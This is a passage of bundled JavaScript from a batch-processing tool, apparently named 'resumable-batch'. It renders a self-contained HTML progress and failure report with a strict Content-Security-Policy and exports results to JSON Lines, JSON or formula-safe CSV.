        parts.push(`<line class="grid" x1="${MARGIN.left}" x2="${WIDTH - MARGIN.right}" y1="${y}" y2="${y}"/>`);
        parts.push(`<text class="axis" x="${MARGIN.left - 8}" y="${y}" text-anchor="end" dominant-baseline="middle">${formatCompact(v)}</text>`);
    }
    for (let v = 0; v <= right.top + 1e-9; v += right.step) {
        parts.push(`<text class="axis axis-cum" x="${WIDTH - MARGIN.right + 8}" y="${f(yRight(v))}" dominant-baseline="middle">${formatCompact(v)}</text>`);
    }
    parts.push(`<text class="axis-title" x="${MARGIN.left - 8}" y="12" text-anchor="end">per run</text>`);
    parts.push(`<text class="axis-title axis-cum" x="${WIDTH - MARGIN.right + 8}" y="12">total done</text>`);
    return parts;
}
/** Target: the whole list. */
function renderTarget({ yRight }, total) {
    if (total <= 0)
        return [];
    const y = f(yRight(total));
    return [
        `<line class="target" x1="${MARGIN.left}" x2="${WIDTH - MARGIN.right}" y1="${y}" y2="${y}"/>`,
        `<text class="target-label" x="${WIDTH - MARGIN.right - 4}" y="${f(yRight(total) - 5)}" text-anchor="end">all ${escapeHtml(formatCount(total))} items</text>`,
    ];
}
/** Bars: succeeded, with failed stacked on top, and a label under every few. */
function renderBars({ shown, shownCum, plotH, slot, barW, yLeft }) {
    const parts = [];
    const labelEvery = Math.max(1, Math.ceil(shown.length / RUN_LABELS));
    shown.forEach((run, i) => {
        const ok = Math.max(0, Number(run.succeeded) || 0);
        const bad = Math.max(0, Number(run.failed) || 0);
        const cx = MARGIN.left + slot * (i + 0.5);
        const x = f(cx - barW / 2);
        const label = run.runId === "local" ? "local run" : `run ${run.runId}${run.runAttempt > 1 ? ` attempt ${run.runAttempt}` : ""}`;
        const title = escapeHtml(`#${run.seq} (${label}, ${run.mode}) ${formatTimestamp(run.startedAt)}: ${formatCount(ok)} succeeded, ${formatCount(bad)} failed; ${formatCount(shownCum[i])} done so far`);
        parts.push(`<g class="run"><title>${title}</title>`);
        const yOk = yLeft(ok);
        parts.push(`<rect class="bar-ok" x="${x}" y="${f(yOk)}" width="${f(barW)}" height="${f(MARGIN.top + plotH - yOk)}"/>`);
        if (bad > 0) {
            const yBad = yLeft(ok + bad);
            parts.push(`<rect class="bar-failed" x="${x}" y="${f(yBad)}" width="${f(barW)}" height="${f(yOk - yBad)}"/>`);
        }
        parts.push(`</g>`);
        if (i % labelEvery === 0 || i === shown.length - 1) {
            parts.push(`<text class="axis" x="${f(cx)}" y="${HEIGHT - MARGIN.bottom + 16}" text-anchor="middle">#${escapeHtml(String(run.seq))}</text>`);
        }
    });
    return parts;
}
/** Cumulative line, with points when there are few enough runs to tell apart. */
function renderCumulativeLine({ shown, shownCum, slot, yRight }) {
    const points = shownCum.map((c, i) => `${f(MARGIN.left + slot * (i + 0.5))},${f(yRight(c))}`);
    const parts = [`<polyline class="cum-line" points="${points.join(" ")}"/>`];
    if (shown.length <= MAX_POINTS_MARKED) {
        shownCum.forEach((c, i) => {
            parts.push(`<circle class="cum-point" cx="${f(MARGIN.left + slot * (i + 0.5))}" cy="${f(yRight(c))}" r="3"><title>${escapeHtml(`#${shown[i].seq}: ${formatCount(c)} done so far`)}</title></circle>`);
        });
    }
    return parts;
}

;// CONCATENATED MODULE: ./src/report/html-report.ts
/**
 * The HTML report: one self-contained file that is uploaded with the run's artifact and
 * opened from the downloaded zip (file://). No network: inline CSS, inline JS, inline SVG.
 *
 * The failed items travel as JSON inside `<script type="application/json">` and the page
 * renders them 500 at a time, so 50,000 failures stay responsive. Everything taken from
 * items (ids, errors) is hostile input: the server-rendered parts are HTML-escaped, the JSON
 * has every `<` written as `\u003c` so it cannot close its script element, and the client
 * only ever sets `textContent`. A Content-Security-Policy allows only the report's own
 * script (by hash) and no network at all, as a second line of defence.
 *
 * Pure: no I/O.
 */









/** Rows the page renders at once, and per "show more". */
const PAGE_SIZE = 500;
/** Cause groups listed in the groups table. */
const MAX_GROUP_ROWS = 50;
/** Causes offered in the cause filter. */
const MAX_GROUP_OPTIONS = 200;
/** Error messages embedded per item are cut to this many characters (full text: failures.json). */
const html_report_MAX_ERROR_CHARS = 1_000;
/** Ids embedded are cut to this many characters. */
const html_report_MAX_ID_CHARS = 300;

function kindBadge(kind) {
    const safe = /^[a-z-]+$/.test(kind) ? kind : "other";
    return `<span class="kind kind-${safe}">${escapeHtml(kind)}</span>`;
}
/** A timestamp for a narrow column whose header says "(UTC)". */
function shortTimestamp(iso) {
    return formatTimestamp(iso).replace(/ UTC$/, "");
}
function renderGroupsTable(groups, totalFailures) {
    if (groups.length === 0)
        return `<p class="empty">No failed items.</p>`;
    const rows = groups.slice(0, MAX_GROUP_ROWS).map((g, i) => {
        const share = totalFailures > 0 ? (100 * g.count) / totalFailures : 0;
        const examples = g.exampleIds.map((id) => `<code>${escapeHtml(truncateText(id, 80))}</code>`).join(" ");
        return (`<tr data-group="${i}">` +
            `<td class="cause"><code>${escapeHtml(g.cause)}</code></td>` +
            `<td class="num"><span class="count">${formatCount(g.count)}</span>` +
            `<span class="share" title="${escapeHtml(formatPercent(g.count, totalFailures))} of failures"><span style="width:${share.toFixed(1)}%"></span></span></td>` +
            `<td>${kindBadge(g.kind)}</td>` +
            `<td class="examples">${examples}</td>` +
            `<td class="when">${escapeHtml(shortTimestamp(g.firstFailedAt))}</td>` +
            `<td class="when">${escapeHtml(shortTimestamp(g.lastFailedAt))}</td>` +
            `<td><button type="button" class="linkish" data-group-filter="${i}">Show items</button></td>` +
            `</tr>`);
    });
    const more = groups.length > MAX_GROUP_ROWS
        ? `<p class="note">…and ${formatCount(groups.length - MAX_GROUP_ROWS)} more causes (${formatCount(groups.slice(MAX_GROUP_ROWS).reduce((s, g) => s + g.count, 0))} items); all failures are in the table below and in failures.json.</p>`
        : "";
    return (`<div class="table-wrap"><table id="groups"><thead><tr><th>Cause</th><th class="num">Items</th><th>Kind</th><th>Example ids</th>` +
        `<th>First seen (UTC)</th><th>Last seen (UTC)</th><th><span class="sr-only">Filter</span></th></tr></thead>` +
        `<tbody>${rows.join("")}</tbody></table></div>${more}`);
}
function buildData(failures, groups) {
    const kinds = [];
    const kindIndex = new Map();
    const causeIndex = new Map();
    groups.forEach((g, i) => causeIndex.set(g.cause, i));
    const errors = [];
    const errorIndex = new Map();
    const errorCause = new Map();
    const rows = [];
    for (const f of failures) {
        const kind = String(f.kind);
        let k = kindIndex.get(kind);
        if (k === undefined) {
            k = kinds.push(kind) - 1;
            kindIndex.set(kind, k);
        }
        const message = typeof f.error === "string" ? f.error : String(f.error ?? "");
        let e = errorIndex.get(message);
        if (e === undefined) {
            e = errors.push(truncateText(message, html_report_MAX_ERROR_CHARS)) - 1;
            errorIndex.set(message, e);
            errorCause.set(message, causeIndex.get(normaliseCause(message)) ?? -1);
        }
        rows.push([
            truncateText(String(f.id), html_report_MAX_ID_CHARS),
            k,
            Number(f.attempts) || 0,
            Number(f.runs) || 0,
            e,
            String(f.firstFailedAt ?? ""),
            String(f.lastFailedAt ?? ""),
            errorCause.get(message),
        ]);
    }
    return { kinds, causes: groups.map((g) => g.cause), errors, rows, pageSize: PAGE_SIZE };
}
const SCRIPT_HASH = (0,external_node_crypto_namespaceObject.createHash)("sha256").update(HTML_REPORT_SCRIPT, "utf8").digest("base64");
/**
 * The HTML report as one self-contained page: this run's counts and overall progress, a
 * chart of items done per run with the cumulative total, the failure causes, and a
 * searchable, sortable, paged table of every failed item.
 */
function renderHtmlReport(input) {
    const failures = input.failures ?? [];
    const runs = input.runs ?? [];
    const groups = groupFailures(failures);
    const title = truncateText(input.title || "resumable-batch report", 200);
    return `<!doctype html>
<html lang="en">
${renderHead(title)}
<body>
<main>
${renderHeader(input, title)}
${renderOverview(input, groups)}
<section class="panel" id="runs">
<h2>Progress across runs</h2>
<div class="legend"><span><i style="background:var(--ok)"></i>succeeded per run</span><span><i style="background:var(--bad)"></i>failed per run</span><span><i class="l-line" style="background:var(--accent)"></i>total done (right axis)</span></div>
${input.passes && input.passes.length > 1 ? renderPassCharts(input.passes, runs, renderRunsChart) : renderRunsChart(runs, input.totals.total)}
</section>
${input.passes ? renderPassesSection(input.passes, runs, input.passNote) : ""}
<section class="panel" id="causes">
<h2>Failure causes</h2>
${renderGroupsTable(groups, failures.length)}
</section>
${renderFailedItems(failures, groups)}
${renderResultsPanel(input.results)}
${renderDurationsSection(input.durations)}
${input.retryHint && failures.length > 0 ? `<div class="hint"><strong>Retrying failures:</strong> ${escapeHtml(truncateText(input.retryHint, 2_000))}</div>` : ""}
<footer>resumable-batch · ${formatCount(runs.length)} ${runs.length === 1 ? "run" : "runs"} recorded</footer>
</main>
<script type="application/json" id="report-data">${jsonForScript(buildData(failures, groups))}</script>
<script>${HTML_REPORT_SCRIPT}</script>
</body>
</html>
`;
}
/**
 * The page's head: a Content-Security-Policy that lets only the report's own script run
 * (by its hash) and loads nothing, and the inline stylesheet.
 */
function renderHead(title) {
    const csp = [
        "default-src 'none'",
        `script-src 'sha256-${SCRIPT_HASH}'`,
        // Inline style attributes (bar widths) need 'unsafe-inline'; styles cannot load anything
        // because every fetch directive falls back to default-src 'none'.
        "style-src 'unsafe-inline'",
        "img-src data:",
        "base-uri 'none'",
        "form-action 'none'",
    ].join("; ");
    return `<head>
<meta charset="utf-8">
<meta http-equiv="Content-Security-Policy" content="${csp}">
<meta name="viewport" content="width=device-width, initial-scale=1">
<meta name="color-scheme" content="light dark">
<meta name="generator" content="resumable-batch">
<title>${escapeHtml(title)}</title>
<style>${HTML_REPORT_STYLE}</style>
</head>`;
}
/** Title, when and from what state, why the run stopped, and the fresh-start warning. */
function renderHeader(input, title) {
    const { thisRun, totals } = input;
    const stop = describeStopReason(thisRun.stopReason, totals.remaining);
    const source = describeStateSource(input.stateSource);
    const detail = input.stateSourceDetail ? ` (${escapeHtml(truncateText(input.stateSourceDetail, 500))})` : "";
    const warning = input.freshStartWarning
        ? `<div class="warning" role="alert" id="fresh-start-warning"><strong>Fresh start: earlier state could not be restored.</strong> ` +
            `Work already done may be repeated.<br>${escapeHtml(truncateText(input.freshStartWarning, 2_000))}</div>`
        : "";
    return `<header>
<h1>${escapeHtml(title)}</h1>
<p class="meta">Generated <time datetime="${escapeHtml(input.generatedAt)}">${escapeHtml(formatTimestamp(input.generatedAt))}</time> · ${escapeHtml(source)}${detail}</p>
<p class="status status-${escapeHtml(thisRun.stopReason)}" id="stop-reason">${escapeHtml(stop)}</p>
</header>
${warning}`;
}
/** The cards (total, done, failed, remaining), the progress bar and this run's figures. */
function renderOverview(input, groups) {
    const { thisRun, totals } = input;
    const donePct = totals.total > 0 ? Math.min(100, (100 * totals.done) / totals.total) : 0;
    const failedPct = totals.total > 0 ? Math.min(100 - donePct, (100 * totals.failed) / totals.total) : 0;
    return `<section class="cards" aria-label="Overall progress">
<div class="card"><div class="label">Total items</div><div class="value" id="count-total">${formatCount(totals.total)}</div><div class="sub">across all runs</div></div>
<div class="card done"><div class="label">Done</div><div class="value" id="count-done">${formatCount(totals.done)}</div><div class="sub">${formatPercent(totals.done, totals.total)} of all items</div></div>
<div class="card failed"><div class="label">Failed</div><div class="value" id="count-failed">${formatCount(totals.failed)}</div><div class="sub">${formatPercent(totals.failed, totals.total)} · in ${formatCount(groups.length)} ${groups.length === 1 ? "cause" : "causes"}</div></div>
<div class="card"><div class="label">Remaining</div><div class="value" id="count-remaining">${formatCount(totals.remaining)}</div><div class="sub">${totals.remaining > 0 ? "the next run continues" : "nothing left to start"}</div></div>
</section>
<div class="progress" role="progressbar" aria-valuemin="0" aria-valuemax="100" aria-valuenow="${donePct.toFixed(1)}" title="${escapeHtml(formatPercent(totals.done, totals.total))} done"><span class="p-done" style="width:${donePct.toFixed(2)}%"></span><span class="p-failed" style="width:${failedPct.toFixed(2)}%"></span></div>
<section class="panel" id="this-run">
<h2>This run</h2>
<ul class="this-run">
<li>Processed <b id="run-processed">${formatCount(thisRun.processed)}</b></li>
<li>Succeeded <b id="run-succeeded">${formatCount(thisRun.succeeded)}</b></li>
<li>Failed <b id="run-failed">${formatCount(thisRun.failed)}</b></li>${thisRun.changed
        ? `
<li>Changed since done <b id="run-changed">${formatCount(thisRun.changed)}</b></li>`
        : ""}
<li>Duration <b id="run-duration">${escapeHtml(formatDuration(thisRun.durationMs))}</b></li>
<li>Stopped <b>${escapeHtml(thisRun.stopReason)}</b></li>
</ul>
</section>`;
}
/** The failed items' table: empty here, filled by the client script from the embedded data. */
function renderFailedItems(failures, groups) {
    const groupOptions = groups
        .slice(0, MAX_GROUP_OPTIONS)
        .map((g, i) => `<option value="${i}">${escapeHtml(truncateText(g.cause, 90))} (${formatCount(g.count)})</option>`)
        .join("");
    return `<section class="panel" id="failed-items">
<h2>Failed items</h2>
<div class="toolbar">
<input type="search" id="search" placeholder="Filter by id, error or kind (press /)" autocomplete="off" spellcheck="false" aria-label="Filter failed items">
<select id="group-filter" aria-label="Filter by cause"><option value="">All causes</option>${groupOptions}</select>
<span id="shown-count" aria-live="polite" data-shown="0" data-matching="${failures.length}"></span>
</div>
<div class="table-wrap">
<table id="failures">
<colgroup><col class="c-id"><col class="c-kind"><col class="c-att"><col class="c-err"><col class="c-last"></colgroup>
<thead><tr>
<th data-sort="id" aria-sort="none"><button type="button">Id <span class="arrow">↕</span></button></th>
<th data-sort="kind" aria-sort="none"><button type="button">Kind <span class="arrow">↕</span></button></th>
<th data-sort="attempts" data-first="desc" aria-sort="none" class="num"><button type="button">Attempts <span class="arrow">↕</span></button></th>
<th>Error</th>
<th data-sort="lastFailedAt" data-first="desc" aria-sort="none"><button type="button">Last failed <span class="arrow">↕</span></button></th>
</tr></thead>
<tbody></tbody>
</table>
</div>
<noscript><p class="note">The table needs JavaScript; every failure is also in failures.json.</p></noscript>
<button type="button" id="show-more" class="more" hidden>Show more</button>
${failures.length === 0 ? `<p class="empty">No failed items.</p>` : `<p class="note">Errors are cut to ${formatCount(html_report_MAX_ERROR_CHARS)} characters here; failures.json has them in full.</p>`}
</section>`;
}

;// CONCATENATED MODULE: ./src/report/write-reports.ts





const SUMMARY_FILE = "summary.md";
const REPORT_FILE = "report.html";
/** Writes failures.json, summary.md and report.html for people to review. */
function writeReports(dir, state, input, nowIso, htmlPath = (0,external_node_path_.join)(dir, REPORT_FILE)) {
    (0,external_node_fs_.mkdirSync)(dir, { recursive: true });
    writeFailuresFile(dir, state);
    const summaryMarkdown = renderRunSummaryMarkdown(input);
    writeFileAtomic((0,external_node_path_.join)(dir, SUMMARY_FILE), summaryMarkdown);
    writeFileAtomic(htmlPath, renderHtmlReport({ ...input, generatedAt: nowIso }));
    return { summaryMarkdown };
}

;// CONCATENATED MODULE: ./src/report/byte-writer.ts

const byte_writer_CHUNK_BYTES = 1 << 20;
/**
 * Output built as bytes in 1 MiB buffers: most of a results export is bytes copied from
 * the job log as they are (ids, result fields), and making a string of each first was
 * what an export of a million results spent its time on. A full buffer is handed to the
 * stream as it is and a new one started, so nothing written is overwritten.
 */
class ByteWriter {
    out;
    buf = Buffer.allocUnsafe(byte_writer_CHUNK_BYTES);
    pos = 0;
    full = [];
    constructor(out) {
        this.out = out;
    }
    room(bytes) {
        if (this.pos + bytes <= this.buf.length)
            return;
        if (this.pos > 0)
            this.full.push(this.buf.subarray(0, this.pos));
        this.buf = Buffer.allocUnsafe(Math.max(byte_writer_CHUNK_BYTES, bytes));
        this.pos = 0;
    }
    /** Copies `src[start, end)`. */
    bytes(src, start, end) {
        const length = end - start;
        this.room(length);
        // A short copy in a loop: a native call per id or cell costs more than the bytes.
        if (length < 48) {
            const { buf } = this;
            let pos = this.pos;
            for (let i = start; i < end; i++)
                buf[pos++] = src[i];
        }
        else
            src.copy(this.buf, this.pos, start, end);
        this.pos += length;
    }
    byte(value) {
        this.room(1);
        this.buf[this.pos++] = value;
    }
    /** A string as UTF-8. */
    text(value) {
        this.room(value.length * 3);
        this.pos += this.buf.write(value, this.pos);
    }
    /** A string of ASCII only (numbers, dates, member names). */
    ascii(value) {
        this.room(value.length);
        const { buf } = this;
        let pos = this.pos;
        for (let i = 0; i < value.length; i++)
            buf[pos++] = value.charCodeAt(i);
        this.pos = pos;
    }
    /** Hands what was built to the stream, waiting when it asks to (a pipe to a slow reader, a file). */
    async flush() {
        if (this.pos > 0) {
            this.full.push(this.buf.subarray(0, this.pos));
            this.buf = Buffer.allocUnsafe(byte_writer_CHUNK_BYTES);
            this.pos = 0;
        }
        const full = this.full;
        this.full = [];
        for (const chunk of full)
            if (!this.out.write(chunk))
                await (0,external_node_events_.once)(this.out, "drain");
    }
}

;// CONCATENATED MODULE: ./src/report/results-csv.ts
const results_csv_QUOTE = 0x22;
const results_csv_BACKSLASH = 0x5c;
const results_csv_COMMA = 0x2c;
const results_csv_NEWLINE = 0x0a;
const APOSTROPHE = 0x27;
// = + - @: a spreadsheet runs a cell starting with one as a formula (csv.ts); a tab or a
// CR cannot start a JSON string's unescaped bytes.
const FORMULA_START = new Uint8Array(128);
for (const c of "=+-@")
    FORMULA_START[c.charCodeAt(0)] = 1;
const NONE = 0;
const STRING = 1;
const ESCAPED_STRING = 2;
const NUMBER = 3;
const TRUE = 4;
const FALSE = 5;
const NULL = 6;
const NESTED = 7;
class CsvRowWriter {
    layout;
    slowCell;
    keyBytes;
    keyIndex;
    types;
    starts;
    ends;
    finishedMs = -1;
    finishedIso = "";
    constructor(layout, slowCell) {
        this.layout = layout;
        this.slowCell = slowCell;
        this.keyBytes = layout.fields.map((f) => Buffer.from(f, "utf8"));
        this.keyIndex = new Map(layout.fields.map((f, i) => [f, i]));
        this.types = new Uint8Array(layout.fields.length);
        this.starts = new Int32Array(layout.fields.length);
        this.ends = new Int32Array(layout.fields.length);
    }
    /** Writes the row of a line the byte reader read; false (nothing written) when its result needs parsing. */
    row(line, head, w) {
        const { buf, end, header } = line;
        const { layout } = this;
        const object = head.resultStart !== -1 && buf[head.resultStart] === 0x7b;
        this.types.fill(NONE);
        if (object && !this.scanObject(buf, head.resultStart, end - 1))
            return false;
        this.stringCell(buf, head.idStart, head.idEnd, false, w);
        for (let col = 0; col < this.types.length; col++) {
            w.byte(results_csv_COMMA);
            this.fieldCell(buf, col, w);
        }
        if (layout.resultColumn) {
            w.byte(results_csv_COMMA);
            if (head.resultStart !== -1 && !object)
                w.text(this.slowCell(JSON.parse(buf.toString("utf8", head.resultStart, end - 1))));
        }
        w.byte(results_csv_COMMA);
        const finishedMs = head.at + head.ms;
        if (finishedMs !== this.finishedMs) {
            this.finishedMs = finishedMs;
            this.finishedIso = new Date(finishedMs).toISOString();
        }
        w.ascii(this.finishedIso);
        w.byte(results_csv_COMMA);
        w.bytes(buf, head.msStart, head.msEnd);
        w.byte(results_csv_COMMA);
        w.bytes(buf, head.nStart, head.nEnd);
        if (layout.shard) {
            w.byte(results_csv_COMMA);
            if (header?.shard !== undefined)
                w.text(this.slowCell(header.shard));
        }
        if (layout.pass) {
            w.byte(results_csv_COMMA);
            const pass = head.pass !== -1 ? head.pass : header?.pass;
            if (pass !== undefined)
                w.ascii(this.slowCell(pass));
        }
        if (layout.redone) {
            w.byte(results_csv_COMMA);
            if (head.redo)
                w.ascii("true");
        }
        w.byte(results_csv_NEWLINE);
        return true;
    }
    /** A JSON string's cell: its bytes as they are, with `'` before a formula start; else via slowCell. */
    stringCell(buf, start, end, escaped, w) {
        const comma = escaped ? -1 : buf.indexOf(results_csv_COMMA, start);
        if (escaped || (comma !== -1 && comma < end)) {
            const text = escaped ? JSON.parse(buf.toString("utf8", start - 1, end + 1)) : buf.toString("utf8", start, end);
            w.text(this.slowCell(text));
            return;
        }
        if (start < end && FORMULA_START[buf[start]] === 1)
            w.byte(APOSTROPHE);
        w.bytes(buf, start, end);
    }
    fieldCell(buf, col, w) {
        const start = this.starts[col];
        const end = this.ends[col];
        switch (this.types[col]) {
            case STRING:
            case ESCAPED_STRING:
                return this.stringCell(buf, start, end, this.types[col] === ESCAPED_STRING, w);
            case NUMBER:
                return plainInteger(buf, start, end) ? w.bytes(buf, start, end) : w.ascii(String(Number(buf.toString("latin1", start, end))));
            case TRUE:
                return w.ascii("true");
            case FALSE:
                return w.ascii("false");
            case NESTED:
                return w.text(this.slowCell(JSON.parse(buf.toString("utf8", start, end))));
            default:
            // NONE, NULL: an empty cell
        }
    }
    /** Finds the columns' values in the object `buf[start, end)`; false unless it is JSON.stringify's flat output. */
    scanObject(buf, start, end) {
        let i = start + 1;
        if (buf[i] === 0x7d)
            return i === end - 1;
        let guess = 0;
        for (;;) {
            if (buf[i] !== results_csv_QUOTE)
                return false;
            const keyStart = i + 1;
            i = keyStart;
            while (i < end && buf[i] !== results_csv_QUOTE)
                if (buf[i++] === results_csv_BACKSLASH)
                    return false;
            const keyEnd = i;
            if (buf[i + 1] !== 0x3a)
                return false;
            i += 2;
            const valueStart = i;
            const type = valueType(buf[i]);
            if (type === STRING) {
                i++;
                let escaped = false;
                while (i < end && buf[i] !== results_csv_QUOTE) {
                    if (buf[i] === results_csv_BACKSLASH) {
                        escaped = true;
                        i++;
                    }
                    i++;
                }
                if (i >= end)
                    return false;
                i++;
                guess = this.store(buf, keyStart, keyEnd, guess, escaped ? ESCAPED_STRING : STRING, valueStart + 1, i - 1);
            }
            else {
                const valueEnd = type === NESTED ? nestedEnd(buf, i, end) : scalarEnd(buf, i, end);
                if (type === NONE || valueEnd === -1)
                    return false;
                if (type === TRUE || type === FALSE || type === NULL) {
                    const word = buf.toString("latin1", i, valueEnd);
                    if (word !== (type === TRUE ? "true" : type === FALSE ? "false" : "null"))
                        return false;
                }
                i = valueEnd;
                guess = this.store(buf, keyStart, keyEnd, guess, type, valueStart, valueEnd);
            }
            if (buf[i] === results_csv_COMMA)
                i++;
            else
                return buf[i] === 0x7d && i === end - 1;
        }
    }
    /** Keeps a member's value for its column (a later duplicate wins, as in JSON.parse); returns the next guess. */
    store(buf, keyStart, keyEnd, guess, type, start, end) {
        const expected = this.keyBytes[guess];
        const col = expected !== undefined && sameBytes(expected, buf, keyStart, keyEnd)
            ? guess
            : (this.keyIndex.get(buf.toString("utf8", keyStart, keyEnd)) ?? -1);
        if (col === -1)
            return guess;
        this.types[col] = type;
        this.starts[col] = start;
        this.ends[col] = end;
        return col + 1;
    }
}
function valueType(c) {
    if (c === results_csv_QUOTE)
        return STRING;
    if (c === 0x2d || (c >= 0x30 && c <= 0x39))
        return NUMBER;
    if (c === 0x74)
        return TRUE;
    if (c === 0x66)
        return FALSE;
    if (c === 0x6e)
        return NULL;
    if (c === 0x7b || c === 0x5b)
        return NESTED;
    return NONE;
}
/** The end of a number or word: the next comma or closing brace. */
function scalarEnd(buf, i, end) {
    while (i < end && buf[i] !== results_csv_COMMA && buf[i] !== 0x7d)
        i++;
    return i < end ? i : -1;
}
/** The end of a nested object or array, strings skipped. */
function nestedEnd(buf, i, end) {
    let depth = 0;
    while (i < end) {
        const c = buf[i];
        if (c === results_csv_QUOTE) {
            i++;
            while (i < end && buf[i] !== results_csv_QUOTE)
                i += buf[i] === results_csv_BACKSLASH ? 2 : 1;
        }
        else if (c === 0x7b || c === 0x5b)
            depth++;
        else if (c === 0x7d || c === 0x5d) {
            depth--;
            if (depth === 0)
                return i + 1;
        }
        i++;
    }
    return -1;
}
/** An integer String(JSON.parse(text)) gives back as it is: no leading zero, no -0, at most 15 digits. */
function plainInteger(buf, start, end) {
    let i = start;
    if (buf[i] === 0x2d)
        i++;
    const digits = end - i;
    if (digits === 0 || digits > 15 || (buf[i] === 0x30 && (digits > 1 || i > start)))
        return false;
    for (; i < end; i++)
        if (buf[i] < 0x30 || buf[i] > 0x39)
            return false;
    return true;
}
function sameBytes(expected, buf, start, end) {
    if (expected.length !== end - start)
        return false;
    for (let k = 0; k < expected.length; k++)
        if (expected[k] !== buf[start + k])
            return false;
    return true;
}

;// CONCATENATED MODULE: ./src/report/results-export.ts






const RESULT_FORMATS = ["jsonl", "csv", "json"];
const LOG_FORMATS = ["jsonl", "csv"];
/**
 * One CSV cell: nested values as their JSON, booleans as words (csv-stringify would write
 * 1 and an empty cell), then made formula-safe (csv.ts).
 */
function cell(value) {
    if (value === undefined || value === null)
        return "";
    if (typeof value === "object")
        return formulaSafeCell(JSON.stringify(value));
    if (typeof value === "boolean")
        return String(value);
    return formulaSafeCell(value);
}
/** A cell csv-stringify would write unquoted: no delimiter, quote or line break in it. */
const NEEDS_QUOTES = /[",\r\n]/;
/**
 * One CSV field, byte for byte as csv-stringify writes it: the common plain cell is
 * written as it is (a csv-stringify call per row was most of the export's time), any
 * other goes through csv-stringify.
 */
function csvField(value) {
    if (typeof value === "number")
        return String(value);
    if (typeof value === "string" && !NEEDS_QUOTES.test(value))
        return value;
    return stringify([[value]]).slice(0, -1);
}
/** The result file every artifact carries. */
const RESULTS_FILE = "results.jsonl";
/** Writes, waiting when the stream asks to (a pipe to a slow reader, a file). */
async function put(out, text) {
    if (text.length > 0 && !out.write(text))
        await (0,external_node_events_.once)(out, "drain");
}
/**
 * Streams every item's last success (see readResults) as JSON Lines, a JSON array or CSV.
 * Returns how many records were written.
 */
async function exportResults(stateDir, format, out) {
    const plan = await planResults(stateDir);
    if (format === "csv")
        return exportCsv(plan, out);
    const w = new ByteWriter(out);
    let count = 0;
    if (format === "json")
        w.ascii("[");
    const visit = (line) => {
        if (format === "json")
            w.ascii(count === 0 ? "\n" : ",\n");
        if (line.head === undefined)
            w.text(recordJson(line.record));
        else
            recordJsonBytes(line, line.head, w);
        if (format === "jsonl")
            w.ascii("\n");
        count++;
    };
    const chunks = visitPlannedLines(plan, visit);
    while (!(await chunks.next()).done)
        await w.flush();
    if (format === "json")
        w.ascii(count === 0 ? "]\n" : "\n]\n");
    await w.flush();
    return count;
}
/** CSV: the header from the plan (keys lines, present members), then a row per record. */
async function exportCsv(plan, out) {
    const { fields, plain } = plan.keys ?? (await resultFields(plan));
    const layout = {
        fields,
        resultColumn: plain || fields.length === 0,
        shard: (plan.present & HAS_SHARD) !== 0,
        pass: (plan.present & HAS_PASS) !== 0,
        redone: (plan.present & HAS_REDONE) !== 0,
    };
    const columns = columnsOf(layout);
    const w = new ByteWriter(out);
    w.text(stringify([columns.map((c) => c.name)]));
    const rows = new CsvRowWriter(layout, (value) => csvField(cell(value)));
    let count = 0;
    const visit = (line) => {
        if (line.head === undefined || !rows.row(line, line.head, w)) {
            const r = parsed(line.record ?? recordOfHead(line, line.head));
            w.text(columns.map((c) => csvField(cell(c.value(r)))).join(",") + "\n");
        }
        count++;
    };
    const chunks = visitPlannedLines(plan, visit);
    while (!(await chunks.next()).done)
        await w.flush();
    await w.flush();
    return count;
}
/**
 * A record as JSON, the result's saved text spliced in as it is (parsing and printing a
 * million results again is most of what an export would otherwise cost). Same members,
 * in the same order, as JSON.stringify of the parsed record.
 */
function recordJson(r) {
    return ('{"id":' +
        JSON.stringify(r.id) +
        (r.resultJson === undefined ? "" : ',"result":' + r.resultJson) +
        ',"finishedAt":"' +
        r.finishedAt +
        '","durationMs":' +
        r.durationMs +
        ',"attempts":' +
        r.attempts +
        (r.shard === undefined ? "" : ',"shard":' + JSON.stringify(r.shard)) +
        (r.pass === undefined ? "" : ',"pass":' + r.pass) +
        (r.redone ? ',"redone":true' : "") +
        "}");
}
let lastMs = -1;
let lastIso = "";
/** The ISO time of an epoch time, the last one kept: a million records share far fewer milliseconds. */
function isoOf(ms) {
    if (ms !== lastMs) {
        lastMs = ms;
        lastIso = new Date(ms).toISOString();
    }
    return lastIso;
}
/** recordJson from the line's bytes: an id without escapes is its own JSON text, as is the result. */
function recordJsonBytes(line, head, w) {
    const { buf, end, header } = line;
    w.ascii('{"id":"');
    w.bytes(buf, head.idStart, head.idEnd);
    w.byte(0x22);
    if (head.resultStart !== -1) {
        w.ascii(',"result":');
        w.bytes(buf, head.resultStart, end - 1);
    }
    w.ascii(',"finishedAt":"');
    w.ascii(isoOf(head.at + head.ms));
    w.ascii('","durationMs":');
    w.bytes(buf, head.msStart, head.msEnd);
    w.ascii(',"attempts":');
    w.bytes(buf, head.nStart, head.nEnd);
    if (header?.shard !== undefined)
        w.text(',"shard":' + JSON.stringify(header.shard));
    const pass = head.pass !== -1 ? head.pass : header?.pass;
    if (pass !== undefined)
        w.ascii(',"pass":' + pass);
    if (head.redo)
        w.ascii(',"redone":true');
    w.byte(0x7d);
}
function parsed({ resultJson, ...rest }) {
    return resultJson === undefined ? rest : { ...rest, result: JSON.parse(resultJson) };
}
const FIXED_AFTER = ["finishedAt", "durationMs", "attempts"];
const OPTIONAL = ["shard", "pass", "redone"];
const RESERVED = new Set(["id", "result", ...FIXED_AFTER, ...OPTIONAL]);
/**
 * The result fields when a segment has no keys line (its run was killed): read from the
 * planned results before writing them, since a CSV header comes first and the results are
 * never all held at once.
 */
async function resultFields(plan) {
    const fields = new Set();
    let plain = false;
    for await (const batch of readPlannedRawResults(plan)) {
        for (const { resultJson: json } of batch) {
            // Only an object has fields to flatten: other results need no parse to be told apart.
            if (json === undefined)
                continue;
            if (json.charCodeAt(0) === 0x7b)
                for (const key of Object.keys(JSON.parse(json)))
                    fields.add(key);
            else
                plain = true;
        }
    }
    return { fields: [...fields], plain };
}
/**
 * CSV's columns: id, the top-level fields of object results (a field named like a fixed
 * column becomes `result.<name>`), `result` for results that are not objects, then the
 * outcome's columns.
 */
function columnsOf(layout) {
    const columns = [{ name: "id", value: (r) => r.id }];
    for (const key of layout.fields) {
        columns.push({
            name: RESERVED.has(key) ? `result.${key}` : key,
            value: (r) => (isPlainObject(r.result) && Object.hasOwn(r.result, key) ? r.result[key] : undefined),
        });
    }
    if (layout.resultColumn)
        columns.push({ name: "result", value: (r) => (isPlainObject(r.result) ? undefined : r.result) });
    for (const key of FIXED_AFTER)
        columns.push({ name: key, value: (r) => r[key] });
